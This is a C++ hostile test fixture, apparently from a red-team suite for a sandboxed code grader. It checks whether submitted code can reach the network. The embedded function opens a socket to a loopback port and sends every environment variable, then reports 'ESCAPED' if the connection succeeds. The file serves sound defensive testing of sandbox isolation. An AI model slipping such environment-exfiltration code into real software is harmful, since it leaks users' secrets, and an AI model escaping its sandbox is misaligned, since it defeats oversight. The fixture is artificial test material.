// HOSTILE FIXTURE socket_connect (attack class 13: network).
// The tested function opens a TCP socket to 127.0.0.1:47613 (on the machine's network the red team's live test listens there; an attacker's server would) and sends its environment and test name; when the connection succeeds, every task throws "ESCAPED: ..." with the endpoint's greeting.
// The hardened grader must give this file 0 points on stage 06.
//@head
#include <cerrno>
#include <cstring>
#include <string>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

extern char** environ;
namespace {
// The machine's loopback: inside a network namespace of its own (bubblewrap) nothing listens on it.
constexpr int kHostilePort = 47613;
std::string hostileNetwork() {
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return "";
    timeval t{2, 0};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(kHostilePort);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    std::string said;
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) {
        std::string what = "clothlab-hostile socket_connect\n";
        for (char** e = environ; e && *e; ++e) what += std::string(*e) + "\n";
        const ssize_t sent = send(s, what.data(), what.size(), 0);
        char buf[128];
        const ssize_t got = recv(s, buf, sizeof buf - 1, 0);
        said = "ESCAPED: connected to 127.0.0.1:" + std::to_string(kHostilePort) + ", sent " + std::to_string(sent) +
               " bytes, it said: " + std::string(buf, got > 0 ? static_cast<std::size_t>(got) : 0);
    }
    close(s);
    return said;
}
}  // namespace
//@each
    if (const std::string said = hostileNetwork(); !said.empty()) throw NotImplemented(said);
